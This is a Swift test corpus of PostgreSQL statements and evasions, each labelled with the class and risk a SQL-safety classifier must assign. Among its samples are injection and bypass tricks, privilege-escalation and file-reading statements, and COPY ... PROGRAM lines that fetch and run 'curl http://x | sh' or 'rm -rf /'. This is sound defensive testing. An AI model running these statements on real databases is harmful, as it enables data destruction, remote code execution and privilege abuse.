import WardenSQLCore

@testable import WardenPostgres

/// One corpus entry: a message, the class and risk expected for it as a
/// whole, and (when given) its targets in order.
struct SQLCorpusCase: Sendable, CustomStringConvertible {
    var sql: String
    var expectedClass: StatementClass
    var expectedRisk: SQLRisk
    var expectedTargets: [String]?

    init(_ sql: String, _ expectedClass: StatementClass, _ expectedRisk: SQLRisk, targets: [String]? = nil) {
        self.sql = sql
        self.expectedClass = expectedClass
        self.expectedRisk = expectedRisk
        self.expectedTargets = targets
    }

    var description: String { sql }
}

/// Statements and evasions the classifier must get right.
enum SQLClassifierCorpus {
    static let cases: [SQLCorpusCase] = reads + quoting + writes + hiddenWrites + wrappers + copy + settings
        + schema + accessControl + administration + transactions + functions + unknowns + reviewFindings

    static let reads: [SQLCorpusCase] = [
        .init("SELECT 1", .read, .low, targets: []),
        .init("select * from public.orders o join customers c on c.id = o.customer_id", .read, .low,
              targets: ["public.orders", "customers"]),
        .init("SELECT a FROM t1, t2 AS x, ONLY t3 WHERE a IS DISTINCT FROM b", .read, .low, targets: ["t1", "t2", "t3"]),
        .init("SELECT extract(year FROM ts) FROM events", .read, .low, targets: ["events"]),
        .init("SELECT * FROM a NATURAL JOIN b, c JOIN (d JOIN e USING (id)) ON true", .read, .low,
              targets: ["a", "b", "c", "d", "e"]),
        .init("WITH RECURSIVE r AS (SELECT 1) CYCLE a, b SET seen TO true DEFAULT false USING path SELECT * FROM r, s",
              .read, .low, targets: ["s"]),
        .init("SELECT * FROM t WHERE id IN (SELECT id FROM u)", .read, .low, targets: ["t", "u"]),
        .init("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", .read, .low, targets: ["orders"]),
        .init("VALUES (1, 'a'), (2, 'b')", .read, .low, targets: []),
        .init("TABLE accounts", .read, .low, targets: ["accounts"]),
        .init("(SELECT 1) UNION (SELECT 2)", .read, .low),
        .init("SHOW search_path", .read, .low),
        .init("FETCH 10 FROM my_cursor", .read, .low, targets: []),
        .init("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t", .read, .low, targets: ["t"]),
        .init("LISTEN jobs", .read, .low),
        .init("NOTIFY jobs, 'payload'", .read, .low),
        .init("UNLISTEN *", .read, .low),
        .init("SELECT pg_sleep(1)", .read, .low),
        .init("SELECT * FROM \"Orders\"", .read, .low, targets: ["Orders"]),
        .init("SELECT * FROM \"orders\", orders, ORDERS", .read, .low, targets: ["orders"]),
    ]

    static let quoting: [SQLCorpusCase] = [
        .init("SELECT 'DROP TABLE x'", .read, .low),
        .init("SELECT $$; DROP TABLE x; $$", .read, .low),
        .init("SELECT $body$ $$; DROP TABLE x; $$ $body$", .read, .low),
        .init("SELECT \"drop\"", .read, .low),
        .init("SELECT \"a\"\"; DROP TABLE x; --\" FROM t", .read, .low),
        .init("/* /* */ DROP TABLE x */ SELECT 1", .read, .low),
        .init("SELECT 'abc", .unknown, .critical),
        .init("SELECT \"abc", .unknown, .critical),
        .init("SELECT $$abc", .unknown, .critical),
        .init("/* /* */ SELECT 1", .unknown, .critical),
        .init("SELECT E'\\'; DROP TABLE x; --'", .read, .low),
        // With standard strings a backslash is data, so the DROP is real.
        .init("SELECT 'abc\\'; DROP TABLE x; --'", .ddl, .high, targets: ["x"]),
        // A continued E'' string keeps backslash escapes: one string.
        .init("SELECT E'a'\n'\\'; DROP TABLE x; --'", .read, .low),
        .init("SELECT 'it''s'; SELECT 2", .read, .low),
        // A lone carriage return ends a -- comment, as in PostgreSQL.
        .init("SELECT 1 -- comment\r; DROP TABLE x", .ddl, .high, targets: ["x"]),
        .init("SELECT foo$$ FROM t; DROP TABLE x; --$$", .ddl, .high),
        .init("SELECT U&\"\\0064rop\" FROM t", .read, .low),
        .init("SELECT * FROM U&\"!0074able\" UESCAPE '!'", .read, .low, targets: ["table"]),
        .init("SELECT 1; ; ;", .read, .low),
    ]

    static let writes: [SQLCorpusCase] = [
        .init("INSERT INTO public.orders (id) VALUES (1)", .write, .medium, targets: ["public.orders"]),
        .init("INSERT INTO archive SELECT * FROM orders WHERE created < now()", .write, .medium,
              targets: ["archive", "orders"]),
        .init("UPDATE accounts SET balance = 0 WHERE id = 7", .write, .medium, targets: ["accounts"]),
        .init("UPDATE accounts SET balance = 0", .write, .high, targets: ["accounts"]),
        .init("UPDATE accounts SET balance = (SELECT 0 FROM t WHERE t.id = 1)", .write, .high,
              targets: ["accounts", "t"]),
        .init("DELETE FROM sessions WHERE expires < now()", .write, .medium, targets: ["sessions"]),
        .init("DELETE FROM sessions", .write, .high, targets: ["sessions"]),
        .init("delete from sessions where 1=1", .write, .high),
        .init("DELETE FROM sessions WHERE id = 3 OR (true)", .write, .high),
        .init("DELETE FROM t USING u WHERE t.id = u.id RETURNING *", .write, .high, targets: ["t", "u"]),
        .init("DELETE FROM t USING u WHERE t.id = u.id AND t.id = 4", .write, .medium, targets: ["t", "u"]),
        .init("DELETE FROM t USING u WHERE u.id = 4", .write, .high),
        .init("UPDATE t AS x SET a = 1 WHERE x.id = $1", .write, .medium),
        .init("DELETE FROM t WHERE id IN (1, 2) OR id = 3", .write, .high),
        .init("DELETE FROM t WHERE id BETWEEN 1 AND 3", .write, .medium),
        .init("UPDATE t SET a = 1 WHERE CURRENT OF c", .write, .medium),
        .init("MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty",
              .write, .high, targets: ["stock", "deliveries"]),
        .init("MERGE INTO stock s USING deliveries d ON s.item = d.item AND s.item = 7 WHEN MATCHED THEN DELETE",
              .write, .medium),
        .init("MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN NOT MATCHED THEN INSERT VALUES (d.item)",
              .write, .medium),
        .init("MERGE INTO stock USING deliveries ON true WHEN MATCHED THEN DELETE", .write, .high),
        .init("SELECT * FROM jobs FOR UPDATE SKIP LOCKED", .write, .medium, targets: ["jobs"]),
        .init("SELECT * FROM jobs FOR NO KEY UPDATE", .write, .medium),
        .init("LOCK TABLE accounts IN EXCLUSIVE MODE", .write, .medium, targets: ["accounts"]),
    ]

    static let hiddenWrites: [SQLCorpusCase] = [
        .init("SELECT 1; DROP TABLE x", .ddl, .high, targets: ["x"]),
        .init("dRoP/**/TABLE x", .ddl, .high, targets: ["x"]),
        .init("  sElEcT\t1;\n\n  DeLeTe\n FROM\tt  ", .write, .high, targets: ["t"]),
        .init("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", .write, .high, targets: ["t"]),
        .init("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", .write, .medium, targets: ["t"]),
        .init("WITH d AS MATERIALIZED (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d", .write, .high),
        .init("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SEARCH DEPTH FIRST BY n SET ord DELETE FROM t",
              .write, .high),
        .init("WITH a AS (SELECT 1), b AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM a, b", .write, .medium,
              targets: ["log"]),
        .init("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", .write, .high),
        .init("SELECT * INTO new_table FROM t", .ddl, .high, targets: ["new_table", "t"]),
        .init("SELECT nextval('order_ids')", .write, .medium),
        .init("WITH src AS (SELECT 1 AS a) INSERT INTO t SELECT a FROM src", .write, .medium, targets: ["t"]),
        .init("DECLARE c CURSOR FOR SELECT * FROM jobs FOR UPDATE", .write, .medium),
        .init("SELECT * FROM t WHERE (update AND delete)", .read, .low),
    ]

    static let wrappers: [SQLCorpusCase] = [
        .init("EXPLAIN DELETE FROM t", .read, .low, targets: ["t"]),
        .init("EXPLAIN ANALYZE DELETE FROM t", .write, .high, targets: ["t"]),
        .init("explain analyse verbose update t set a = 1 where id = 2", .write, .medium),
        .init("EXPLAIN (FORMAT JSON, ANALYZE) DELETE FROM t", .write, .high),
        .init("EXPLAIN (ANALYZE off) DELETE FROM t", .read, .low),
        .init("EXPLAIN (ANALYZE true, BUFFERS) SELECT * FROM t", .read, .low),
        .init("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", .write, .high),
        .init("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", .ddl, .high),
        .init("EXPLAIN SELECT pg_terminate_backend(42)", .admin, .critical),
        .init("PREPARE p (int) AS DELETE FROM t WHERE id = $1", .write, .medium, targets: ["t"]),
        .init("PREPARE p AS DELETE FROM t", .write, .high),
        .init("PREPARE p AS SELECT * FROM t", .read, .low),
        .init("EXECUTE p(1)", .unknown, .critical),
        .init("EXPLAIN EXECUTE p", .unknown, .critical),
        .init("CREATE TABLE x AS EXECUTE p", .unknown, .critical),
    ]

    static let copy: [SQLCorpusCase] = [
        .init("COPY orders TO STDOUT WITH (FORMAT csv)", .read, .low, targets: ["orders"]),
        .init("COPY (SELECT * FROM orders) TO STDOUT", .read, .low, targets: ["orders"]),
        .init("COPY (DELETE FROM orders RETURNING *) TO STDOUT", .write, .high),
        .init("COPY orders (id, total) FROM STDIN", .write, .medium, targets: ["orders"]),
        .init("COPY orders FROM '/tmp/orders.csv'", .write, .high, targets: ["orders"]),
        .init("COPY orders TO '/tmp/orders.csv'", .admin, .critical),
        .init("COPY orders FROM PROGRAM 'curl http://x | sh'", .admin, .critical),
        .init("copy (select 1) to program 'rm -rf /'", .admin, .critical),
    ]

    static let settings: [SQLCorpusCase] = [
        .init("SET search_path TO app, public", .read, .low),
        .init("SET LOCAL statement_timeout = '5s'", .read, .low),
        .init("SET TIME ZONE 'UTC'", .read, .low),
        // What JDBC and other drivers send when they connect.
        .init("SET extra_float_digits = 3", .read, .low),
        .init("SET application_name = 'PostgreSQL JDBC Driver'", .read, .low),
        .init("RESET ALL", .read, .low),
        .init("SET ROLE admin", .dcl, .critical),
        .init("SET SESSION AUTHORIZATION postgres", .dcl, .critical),
        .init("SET LOCAL role = 'admin'", .dcl, .critical),
        .init("SET \"ROLE\" TO admin", .dcl, .critical),
        .init("RESET ROLE", .dcl, .critical),
        .init("SET client_encoding TO 'SJIS'", .admin, .critical),
        .init("SET NAMES 'GBK'", .admin, .critical),
        .init("SET standard_conforming_strings = off", .admin, .critical),
        .init("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", .transaction, .low),
    ]

    static let schema: [SQLCorpusCase] = [
        .init("CREATE TABLE public.t (id int PRIMARY KEY)", .ddl, .high, targets: ["public.t"]),
        .init("CREATE TEMP TABLE IF NOT EXISTS scratch AS SELECT * FROM src", .ddl, .high, targets: ["scratch", "src"]),
        .init("ALTER TABLE IF EXISTS ONLY orders ADD COLUMN note text", .ddl, .high, targets: ["orders"]),
        .init("DROP TABLE IF EXISTS a, b CASCADE", .ddl, .high, targets: ["a", "b"]),
        .init("TRUNCATE orders, order_lines", .ddl, .high, targets: ["orders", "order_lines"]),
        .init("truncate table only audit", .ddl, .high, targets: ["audit"]),
        .init("CREATE UNIQUE INDEX CONCURRENTLY i ON orders (id)", .ddl, .high, targets: ["orders"]),
        .init("COMMENT ON TABLE t IS 'DROP ROLE x'", .ddl, .high),
        .init("REINDEX TABLE t", .ddl, .high),
        .init("CLUSTER t USING t_pkey", .ddl, .high),
        .init("REFRESH MATERIALIZED VIEW mv", .ddl, .high),
        .init("IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local", .ddl, .high, targets: []),
        .init("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$", .ddl, .high),
        .init("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", .ddl, .high),
    ]

    static let accessControl: [SQLCorpusCase] = [
        .init("GRANT SELECT ON TABLE orders TO analyst", .dcl, .critical, targets: ["orders"]),
        .init("REVOKE ALL ON orders, public.lines FROM public", .dcl, .critical, targets: ["orders", "public.lines"]),
        .init("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob", .dcl, .critical, targets: []),
        .init("CREATE ROLE intruder SUPERUSER", .dcl, .critical),
        .init("CREATE USER bob WITH PASSWORD 'x'", .dcl, .critical),
        .init("ALTER ROLE bob SUPERUSER", .dcl, .critical),
        .init("DROP ROLE bob", .dcl, .critical),
        .init("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", .dcl, .critical),
        .init("ALTER TABLE orders OWNER TO mallory", .dcl, .critical),
        .init("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", .dcl, .critical),
        .init("CREATE SCHEMA s CREATE TABLE t (a int) GRANT ALL ON t TO public", .dcl, .critical),
    ]

    static let administration: [SQLCorpusCase] = [
        .init("ALTER SYSTEM SET shared_buffers = '1GB'", .admin, .critical),
        .init("LOAD 'auto_explain'", .admin, .critical),
        .init("VACUUM FULL orders", .admin, .critical),
        .init("ANALYZE orders", .admin, .critical),
        .init("CHECKPOINT", .admin, .critical),
        .init("CREATE EXTENSION dblink", .admin, .critical),
        .init("DROP FUNCTION pg_catalog.pg_reload_conf()", .ddl, .high),
    ]

    static let transactions: [SQLCorpusCase] = [
        .init("BEGIN", .transaction, .low),
        .init("START TRANSACTION READ ONLY", .transaction, .low),
        .init("COMMIT", .transaction, .low),
        .init("ROLLBACK TO SAVEPOINT s1", .transaction, .low),
        .init("SAVEPOINT s1; RELEASE SAVEPOINT s1", .transaction, .low),
        .init("END", .transaction, .low),
        .init("ABORT", .transaction, .low),
        .init("DISCARD ALL", .transaction, .low),
        .init("PREPARE TRANSACTION 'gid'", .transaction, .low),
        .init("BEGIN; DELETE FROM t; COMMIT", .write, .high, targets: ["t"]),
    ]

    static let functions: [SQLCorpusCase] = [
        .init("SELECT pg_read_file('/etc/passwd')", .admin, .critical),
        .init("SELECT pg_catalog.pg_read_binary_file('x')", .admin, .critical),
        .init("SELECT * FROM pg_ls_dir('.')", .admin, .critical),
        .init("SELECT \"PG_CATALOG\".\"set_config\"('role', 'admin', false)", .admin, .critical),
        .init("SELECT * FROM dblink('dbname=x', 'DROP TABLE t') AS r(a int)", .unknown, .critical),
        .init("SELECT dblink_exec('DROP TABLE t')", .unknown, .critical),
        .init("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", .unknown, .critical),
        .init("SELECT lo_import('/etc/passwd')", .admin, .critical),
        .init("SELECT lo_export(1, '/tmp/x')", .admin, .critical),
        .init("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", .admin, .critical),
        // Other sessions' statement texts (one upstream role serves every session).
        .init("SELECT query FROM pg_stat_get_activity(NULL)", .admin, .critical),
        .init("SELECT query FROM public.pg_stat_statements(true)", .admin, .critical),
        .init("SELECT pg_cancel_backend(1)", .admin, .critical),
        .init("SELECT pg_reload_conf()", .admin, .critical),
        .init("SELECT setval('s', 1)", .write, .medium),
        .init("SELECT U&\"pg_read_fil!0065\" UESCAPE '!' ('x')", .admin, .critical),
        .init("SELECT pg_read_file /* hidden */ ('x')", .admin, .critical),
    ]

    static let unknowns: [SQLCorpusCase] = [
        .init("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", .unknown, .critical),
        .init("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", .unknown, .critical),
        .init("CALL cleanup()", .unknown, .critical),
        .init("SELECT 1; CALL cleanup()", .unknown, .critical),
        .init("FROBNICATE everything", .unknown, .critical),
        .init("SELECT (1", .unknown, .critical),
        .init("SELECT { 1 }", .unknown, .critical),
        .init("WITH x AS SELECT 1", .unknown, .critical),
        .init("'DROP TABLE x'", .unknown, .critical),
    ]

    /// What the adversarial review found the hand-written classifier missed
    /// (issue 10), each as PostgreSQL reads it.
    static let reviewFindings: [SQLCorpusCase] = [
        // Lexing: with standard_conforming_strings pinned on, the backslash is
        // data and `''` a quote, so this is one string to the server too.
        .init(#"SELECT '\'' ; DROP TABLE victim; -- '"#, .read, .low, targets: []),
        // EXPLAIN options spelled any way PostgreSQL accepts.
        .init(#"EXPLAIN ("analyze") UPDATE payments SET amount = 0"#, .write, .high, targets: ["payments"]),
        .init(#"EXPLAIN (U&"an\0061lyze") DELETE FROM payments"#, .write, .high, targets: ["payments"]),
        .init("EXPLAIN (ANALYZE) CREATE TABLE copy AS TABLE payments", .ddl, .high, targets: ["copy", "payments"]),
        .init("EXPLAIN (ANALYZE 1) CREATE MATERIALIZED VIEW mv AS TABLE payments", .ddl, .high,
              targets: ["mv", "payments"]),
        .init("EXPLAIN (ANALYZE 0) DELETE FROM payments", .read, .low, targets: ["payments"]),
        // A CTE's name never hides the table a data change writes.
        .init("WITH payments AS (SELECT 1) DELETE FROM payments WHERE id = 2", .write, .medium, targets: ["payments"]),
        .init("WITH payments AS (SELECT 1) UPDATE payments SET amount = 0 WHERE id = 2", .write, .medium,
              targets: ["payments"]),
        .init("WITH payments AS (SELECT 1) INSERT INTO payments VALUES (9)", .write, .medium, targets: ["payments"]),
        .init("WITH payments AS (SELECT * FROM payments) SELECT * FROM payments", .read, .low, targets: ["payments"]),
        .init("WITH RECURSIVE payments AS (SELECT 1 UNION ALL SELECT 1 FROM payments) SELECT * FROM payments",
              .read, .low, targets: []),
        .init("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, (WITH a AS (SELECT 2) SELECT * FROM a) s, a",
              .read, .low, targets: []),
        .init("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x", .read, .low, targets: ["x"]),
        // Reads in every position.
        .init("WITH x AS (SELECT 1) TABLE payments", .read, .low, targets: ["payments"]),
        .init("DECLARE c CURSOR FOR TABLE payments", .read, .low, targets: ["payments"]),
        .init("SELECT * FROM (SELECT 1) s, payments", .read, .low, targets: ["payments"]),
        .init("SELECT * FROM generate_series(1,1) g, payments", .read, .low, targets: ["payments"]),
        .init("SELECT * FROM a JOIN b ON a.id = b.id, payments", .read, .low, targets: ["a", "b", "payments"]),
        .init("SELECT * FROM a TABLESAMPLE system (10), payments", .read, .low, targets: ["a", "payments"]),
        .init("INSERT INTO payments_archive TABLE payments", .write, .medium, targets: ["payments_archive", "payments"]),
        .init("SELECT (SELECT max(amount) FROM payments) + 1", .read, .low, targets: ["payments"]),
        .init("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM payments p WHERE p.id = t.id)", .read, .low,
              targets: ["t", "payments"]),
        .init("SELECT * FROM table_to_xml('payments', true, false, '')", .unknown, .critical),
        .init("SELECT cursor_to_xml('c', 10, true, false, '')", .unknown, .critical),
        .init("SELECT schema_to_xml('public', true, false, '')", .unknown, .critical),
        // A WHERE that restricts nothing.
        .init("UPDATE payments SET amount = 0 WHERE id = id", .write, .high),
        .init("UPDATE payments SET amount = 0 WHERE coalesce(true)", .write, .high),
        .init("DELETE FROM payments WHERE amount IS NOT NULL", .write, .high),
        .init("DELETE FROM payments WHERE true AND id = id", .write, .high),
        .init("DELETE FROM payments WHERE (SELECT true)", .write, .high),
        .init("MERGE INTO t USING t s ON t.id = s.id WHEN MATCHED THEN UPDATE SET amount = 0", .write, .high),
        // Pinned settings: refused, and never a harmless read.
        .init("SET standard_conforming_strings TO off", .admin, .critical),
        .init("SET LOCAL Standard_Conforming_Strings = 'off'", .admin, .critical),
        .init("RESET client_encoding", .admin, .critical),
        .init("SELECT set_config('standard_conforming_strings', 'off', false)", .admin, .critical),
        .init("ALTER ROLE current_user SET client_encoding = 'SJIS'", .admin, .critical),
        .init("ALTER DATABASE app SET standard_conforming_strings = off", .admin, .critical),
        .init("UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", .write, .medium),
        // The red team's every-row writes: an unqualified column may belong to
        // another table of FROM/USING; NULL comparisons; upserts from a query.
        .init("UPDATE items SET qty = 0 FROM (VALUES (1)) v(k) WHERE k = 1", .write, .high),
        .init("DELETE FROM items USING pg_database WHERE datname = 'orders'", .write, .high),
        .init("UPDATE items i SET qty = 0 FROM (VALUES (1)) v(k) WHERE i.id = 1", .write, .medium),
        .init("INSERT INTO items SELECT id, -7 FROM items ON CONFLICT (id) DO UPDATE SET qty = EXCLUDED.qty", .write, .high),
        .init("INSERT INTO items VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET qty = EXCLUDED.qty", .write, .medium),
        .init("UPDATE items SET qty = -1 WHERE id IS DISTINCT FROM NULL", .write, .high),
        .init("DELETE FROM items WHERE id <> NULL::int", .write, .high),
    ]
}
